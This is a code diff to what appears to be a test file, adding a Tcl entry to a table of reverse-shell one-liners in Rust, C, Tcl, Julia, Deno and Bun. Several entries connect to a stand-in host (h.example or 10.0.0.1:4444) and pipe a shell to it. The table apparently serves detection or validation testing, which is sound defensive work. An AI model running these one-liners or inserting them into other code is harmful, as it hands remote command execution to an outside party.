@@ -16,6 +16,7 @@ describe('a shell for the other side', () => {
     ['Rust', 'let s = TcpStream::connect("h:1"); Command::new("/bin/bash").stdin(s).spawn();'],
     ['C', 'socket(2, 1, 0); dup2(s, 0); execl("/bin/sh", "sh", NULL);'],
     ['Tcl', 'set s [socket 10.0.0.1 4444]; while 1 { gets $s c; catch {set r [eval exec $c]}; puts $s $r }'],
+    ['Tcl, as words', 'set s [socket h.example 4444]; while 1 {puts $s [exec {*}[gets $s]]; flush $s}'],
     ['Julia', 's = connect("10.0.0.1", 4444)\nrun(pipeline(`sh -i`, stdin=s, stdout=s))'],
     ['Deno', 'const c = await Deno.connect({ port: 1 }); const p = new Deno.Command("/bin/sh", { stdin: "piped" }).spawn()'],
     ['Bun', 'Bun.connect({ socket: { data(s, d) { s.write(Bun.spawnSync(["sh", "-c", d.toString()]).stdout) } } })'],
